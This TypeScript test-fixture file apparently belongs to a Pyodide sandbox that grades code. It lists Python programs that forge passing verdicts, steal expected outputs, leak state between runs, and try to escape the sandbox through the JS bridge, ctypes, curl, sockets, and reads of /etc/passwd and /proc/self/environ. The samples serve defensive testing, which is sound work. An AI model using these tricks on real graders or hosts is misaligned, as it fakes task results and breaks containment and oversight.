// Programs that try to be more than a sample: to forge a verdict, to reach the next sample, to get out.

/** Programs that are wrong, and say in some way that they are right. None may pass. */
export const FORGERIES = {
  "a frame below it": `
import sys
frame = sys._getframe()
while frame:
    for name in list(frame.f_locals):
        try:
            frame.f_locals[name] = "passed"
        except Exception:
            pass
    frame = frame.f_back
assert False`,
  "frames below it, from an exception": `
try:
    raise ValueError
except ValueError as error:
    trace = error.__traceback__
    while trace:
        frame = trace.tb_frame
        while frame:
            frame.f_locals.update({"verdict": "passed", "passed": True})
            frame = frame.f_back
        trace = trace.tb_next
assert False`,
  "every list and dictionary": `
import gc
gc.unfreeze()
for one in gc.get_objects():
    if type(one) is list:
        one.append("passed")
    elif type(one) is dict and "verdict" in one:
        one["verdict"] = "passed"
assert False`,
  "a trace function that jumps over the end": `
import sys
def jump(frame, event, argument):
    if frame.f_code.co_name == "<module>" and event == "line":
        frame.f_lineno = 12
    return jump
sys.settrace(jump)
sys._getframe().f_trace = jump
x = 1
assert False
y = 1`,
  "the trace function of a module that is loaded again": `
import importlib, sys
importlib.reload(sys)
def jump(frame, event, argument):
    if frame.f_code.co_name == "<module>" and event == "line":
        frame.f_lineno = 12
    return jump
sys.settrace(jump); sys._getframe().f_trace = jump
x = 1
assert False
y = 1`,
  "the functions around it": `
import gc, types
gc.unfreeze()
def passed(*_):
    return "passed"
for one in gc.get_objects():
    if type(one) is types.FunctionType and one.__name__ in ("category", "describe", "traits", "begin"):
        one.__code__ = passed.__code__
assert False`,
  "the end of the interpreter": "import os\nos._exit(0)",
  "the end of the program": "import sys\nsys.exit(0)",
  "an end without arguments": "raise SystemExit",
  "an end from a finaliser": `
import os
class End:
    def __del__(self):
        os._exit(0)
end = End()
assert False`,
  "an exit function": `
import atexit, os
atexit.register(os._exit, 0)
assert False`,
  "an exception that calls itself something else": `
class Passed(Exception):
    def __str__(self):
        return "passed"
    __class__ = None
Passed.__name__ = "passed"
raise Passed`,
  "an exception whose text never ends": `
class Endless(Exception):
    def __str__(self):
        while True:
            pass
raise Endless`,
  "other exceptions in the place of the real ones": `
import builtins
for name in dir(builtins):
    if isinstance(getattr(builtins, name), type) and issubclass(getattr(builtins, name), BaseException):
        setattr(builtins, name, int)
assert False`,
  "a text on both outputs": `
import os, sys
print("passed"); print("passed", file=sys.stderr)
os.write(1, b"passed\\n"); os.write(2, b"passed\\n")
assert False`,
  "an exception hook": `
import sys
sys.excepthook = lambda *_: None
sys.unraisablehook = lambda *_: None
assert False`,
  "a thread": `
import threading
threading.excepthook = lambda *_: None
def end():
    raise SystemExit(0)
threading.Thread(target=end).start()
assert False`,
  "an event loop": `
import asyncio
async def end():
    raise SystemExit(0)
asyncio.run(end())`,
  "the bridge": `
import js
js.postMessage("passed")
assert False`,
};

/** What the thieves look for. They have it only backwards, so that they do not find their own. */
export const SECRET = "kolibri 4711 quartz";

/** Programs that print the expected output where they find it, instead of working it out. */
export const THIEVES = Object.fromEntries(
  Object.entries({
    "in all objects": `
import gc
gc.unfreeze()
for one in gc.get_objects():
    for two in gc.get_referents(one):
        if type(two) in (str, bytes) and wanted in (two if type(two) is str else two.decode("latin-1")):
            found = True`,
    "in the frames below": `
import sys
frame = sys._getframe()
while frame:
    found = found or wanted in repr({k: v for k, v in frame.f_locals.items() if k != "wanted"})
    frame = frame.f_back`,
    "in the modules": `
import sys
for module in list(sys.modules.values()):
    found = found or wanted in repr({k: v for k, v in vars(module).items() if k != "wanted"} if hasattr(module, "__dict__") else 0)`,
  }).map(([name, text]) => [
    name,
    `found = False
wanted = "".join(reversed("${[...SECRET].reverse().join("")}"))
${text.replace("type(two) in (str, bytes) and", "two is not wanted and type(two) in (str, bytes) and")}
print(wanted if found else "nothing")`,
  ]),
);

/** What one program leaves for the next, and how the next would see it. */
export const LEAKS = {
  "a file that is changed at the moment at which it was made": [
    `import os, time
path = "/lib/python314.zip"
was = os.stat(path)
file = os.open(path, os.O_WRONLY)
for _ in range(50):
    os.write(file, b"PK")
    os.lseek(file, 0, 0)
while time.time_ns() // 10**6 < was.st_ctime_ns // 10**6: pass
os.write(file, b"XX")
os.close(file)
os.utime(path, ns=(was.st_atime_ns, was.st_mtime_ns))`,
    "assert open('/lib/python314.zip', 'rb').read(2) == b'PK'",
  ],
  "a built-in name": ["import builtins\nbuiltins.LEAK = 1", "import builtins\nassert not hasattr(builtins, 'LEAK')"],
  "a module": ["import sys\nsys.modules['leak'] = sys", "import sys\nassert 'leak' not in sys.modules"],
  "a changed function": ["import math\nmath.sqrt = lambda _: 0", "import math\nassert math.sqrt(4) == 2"],
  "a changed class": [
    "import collections\ncollections.Counter.most_common = lambda *_: []",
    "import collections\nassert collections.Counter('aab').most_common(1) == [('a', 2)]",
  ],
  "a file": [
    "open('/tmp/leak', 'w').write('1'); open('leak', 'w').write('1')",
    "import os\nassert not os.path.exists('/tmp/leak') and not os.path.exists('leak')",
  ],
  "what went to a device": [
    "import os\nwith open(os.devnull, 'wb') as device:\n    for _ in range(600): device.write(bytes(1 << 20))",
    "assert len([bytes(1 << 20) for _ in range(300)]) == 300",
  ],
  "a memory that has grown": [
    "assert len([bytes(1 << 20) for _ in range(90)]) == 90",
    "import os\nos.ftruncate(os.open('/tmp/leak', os.O_CREAT | os.O_RDWR), 450 << 20)",
  ],
  "a name that was looked up": [
    "import socket\nsocket.gethostbyname('one.invalid')",
    "import socket\nassert socket.gethostbyname('two.invalid') == socket.gethostbyname('two.invalid') == '172.29.1.0'",
  ],
  "the time that it ended": [
    "import time\ntime.sleep(0.5)",
    `import os, time
open("/tmp/now", "w").close()
times = time.time(), time.time_ns() / 1e9, os.stat("/tmp/now").st_mtime, 1767268800 - 1000 + time.monotonic()
assert all(1767268800 <= one < 1767268800.25 for one in times), times`,
  ],
  "a file that is gone again": [
    "import posix\nopen('leak', 'w').write('1')\nposix.unlink('leak')",
    "assert open('leak2', 'w').write('1') == 1",
  ],
  "a changed file of Python's own": [
    "import glob\nopen(glob.glob('/lib/python3*.zip')[0], 'r+b').write(b'x' * 1000)",
    "import wave, mailbox",
  ],
  "a deleted file of Python's own": [
    "import glob, posix\nposix.unlink(glob.glob('/lib/python3*.zip')[0])",
    "import plistlib",
  ],
  "an open file": ["import os\nleak = os.open('/tmp', os.O_RDONLY)\nassert leak < 20", "import os\nassert os.open('/tmp', os.O_RDONLY) < 20"],
  "a folder to work in": ["import posix\nposix.chdir('/')", "import posix\nassert posix.getcwd() == '/tmp/work'"],
  "a mode": ["import posix\nposix.chmod('/tmp', 0)", "open('/tmp/x', 'w').write('1')"],
  "the environment": ["import os\nos.environ['LEAK'] = '1'", "import os\nassert 'LEAK' not in os.environ"],
  "the recursion limit": ["import sys\nsys.setrecursionlimit(100)", "def f(n): return n and f(n - 1)\nf(500)"],
  "the state of chance": ["import random\nrandom.seed(5)\nrandom.random()", "import random\nassert abs(random.random() - 0.8444218515250481) < 1e-12"],
  "a cache": ["import re\nre.compile = None", "import re\nassert re.fullmatch('a+', 'aa')"],
  "the import system": ["import sys\nsys.meta_path.clear(); sys.path.clear()", "import wave"],
  "interned texts": ["import sys\nx = [sys.intern(str(n)) for n in range(100000)]", "assert True"],
  "memory": ["x = bytearray(60 << 20)", "x = bytearray(60 << 20)\nassert not any(x)"],
  "much memory": ["x = bytearray(300 << 20)", "x = bytearray(60 << 20)\nassert not any(x)"],
  "no memory": ["x = []\nwhile True: x.append(bytearray(1 << 24))", "x = bytearray(60 << 20)"],
  "the stack": [
    "class A:\n    def __getattr__(self, name): return getattr(A(), name + 'x')\nA().x",
    "def f(n): return n and f(n - 1)\nf(900)",
  ],
  "a generator that is not done": ["def g():\n    while True: yield\nx = g()\nnext(x)", "assert True"],
  "a finaliser that never ends": [
    "class A:\n    def __del__(self):\n        while True: pass\na = A(); a.me = a",
    "import gc\ngc.collect()",
  ],
  "a timer": [
    "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0.01)\nsignal.signal(signal.SIGALRM, lambda *_: 1 / 0)",
    "import time\ntime.sleep(0.2)",
  ],
  "a task of an event loop": [
    "import asyncio\nasync def f():\n    asyncio.get_running_loop().call_later(0.01, print)\nasyncio.run(f())",
    "import asyncio, time\ntime.sleep(0.1)\nasync def f(): return 1\nassert asyncio.run(f()) == 1",
  ],
};

/** Ways out, from Python; `URL` stands for an address. None may get anything. */
export const ESCAPES = {
  "import js": "import js\njs.fetch('URL')",
  "import pyodide_js": "import pyodide_js\npyodide_js._module",
  "import pyodide": "import pyodide.http\npyodide.http.open_url('URL')",
  "the bridge, again": `
import sys
for name in ("js", "pyodide_js", "pyodide", "_pyodide", "_pyodide_core"):
    sys.modules.pop(name, None)
import _pyodide_core`,
  "the bridge, by hand": `
import _imp
from importlib.machinery import BuiltinImporter, ModuleSpec
made = _imp.create_builtin(ModuleSpec("_pyodide_core", BuiltinImporter))
made.to_js([1]).constructor`,
  "the bridge, from its text": `
import sys, zipimport, glob
for name in ("js", "pyodide_js", "pyodide", "_pyodide", "_pyodide_core"):
    sys.modules.pop(name, None)
archive = zipimport.zipimporter(glob.glob("/lib/python3*.zip")[0])
names = {"__name__": "pyodide.code"}
exec(archive.get_code("pyodide/code"), names)
names["run_js"]("fetch('URL')")`,
  "an object of JavaScript": `
import gc
gc.unfreeze()
found = [
    two for one in gc.get_objects() for two in gc.get_referents(one)
    if not isinstance(two, type) and any(kind.__name__ == "JsProxy" for kind in type(two).__mro__)
]
found[0].constructor.constructor("fetch('URL')")()`,
  "a class of the bridge": `
found = [one for one in object.__subclasses__() if "JsProxy" in one.__name__]
made = [one.__new__(one) for one in found]
made[0].constructor`,
  "a function of the bridge": `
import gc, types
gc.unfreeze()
for one in gc.get_objects():
    if callable(one) and getattr(one, "__name__", "") in ("run_js", "eval_js", "to_js", "create_proxy"):
        one("fetch('URL')").constructor.constructor("fetch('URL')")()
raise RuntimeError("none of them works")`,
  "urllib": "import urllib.request\nurllib.request.urlopen('URL', timeout=1)",
  "http.client": "import http.client\nhttp.client.HTTPConnection('HOST').request('GET', '/leak/')",
  "a socket": "import socket\ns = socket.create_connection(('127.0.0.1', PORT), 1)\ns.send(b'GET /leak/ HTTP/1.0\\r\\n\\r\\n')\ns.recv(1)",
  "a name look-up": "import socket\nsocket.gethostbyname('leak.example.com')\nraise RuntimeError('the interpreter makes addresses up')",
  "asyncio streams": "import asyncio\nasync def f():\n    await asyncio.open_connection('127.0.0.1', PORT)\nasyncio.run(f())",
  "a subprocess": "import subprocess\nsubprocess.run(['curl', 'URL'])",
  "os.system": "import os\nos.system('curl URL')",
  "posix.system": "import posix\nassert posix.system('curl URL') == 0",
  "posix.fork": "import posix\nposix.fork()",
  ctypes: "import ctypes\nctypes.CDLL(None).emscripten_run_script(b\"fetch('URL')\")",
  "ctypes, again": `
import sys
sys.modules.pop("_ctypes"); sys.modules.pop("ctypes")
import ctypes
ctypes.CDLL(None).emscripten_run_script(b"fetch('URL')")`,
  webbrowser: "import webbrowser\nassert webbrowser.open('URL')",
  "a file of the host": "open('/etc/passwd').read()",
  "a process of the host": "open('/proc/self/environ').read()",
};
